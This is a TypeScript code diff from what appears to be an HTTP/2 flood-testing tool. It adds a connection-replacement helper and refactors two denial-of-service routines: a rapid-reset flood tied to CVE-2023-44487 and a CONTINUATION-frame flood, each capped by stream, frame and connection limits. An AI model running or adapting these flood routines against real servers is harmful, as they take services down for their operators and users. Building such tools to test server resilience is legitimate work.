@@ -179,6 +179,17 @@ export async function trickle(
   };
 }
 
+/** A new connection of a flood that replaces the ones the server ends (kept in `all`): up within 5 s, else null
+ *  (destroyed, 100 ms later). */
+async function nextUp(open: () => Conn, all: Conn[]): Promise<Conn | null> {
+  const c = open();
+  all.push(c);
+  if (await upWithin(c, 5000)) return c;
+  c.destroy();
+  await sleep(100);
+  return null;
+}
+
 /** Rapid reset (CVE-2023-44487): HEADERS + RST_STREAM pairs, `batch` per write; a connection the server ends is
  *  replaced. `path(i)` marks each request so the producer can count what got through. */
 export async function rapidReset(
@@ -190,13 +201,8 @@ export async function rapidReset(
   const all: Conn[] = [];
   let streams = 0;
   while (!done() && streams < o.maxStreams && all.length < o.maxConns) {
-    const c = open();
-    all.push(c);
-    if (!(await upWithin(c, 5000))) {
-      c.destroy();
-      await sleep(100);
-      continue;
-    }
+    const c = await nextUp(open, all);
+    if (!c) continue;
     c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK]));
     let id = 1;
     while (!done() && streams < o.maxStreams && c.frames.goaway === null && id < 2 ** 30) {
@@ -261,13 +267,8 @@ export async function continuationFlood(
   let frames = 0;
   const empties = Buffer.concat(Array.from({ length: o.batch }, () => continuation(1, Buffer.alloc(0), 0)));
   while (!done() && frames < o.maxFrames && all.length < o.maxConns) {
-    const c = open();
-    all.push(c);
-    if (!(await upWithin(c, 5000))) {
-      c.destroy();
-      await sleep(100);
-      continue;
-    }
+    const c = await nextUp(open, all);
+    if (!c) continue;
     c.socket.write(Buffer.concat([clientPreface(), SETTINGS_ACK, first(all.length)]));
     while (!done() && frames < o.maxFrames && c.frames.goaway === null && (await writeBounded(c, empties, 500))) {
       frames += o.batch;
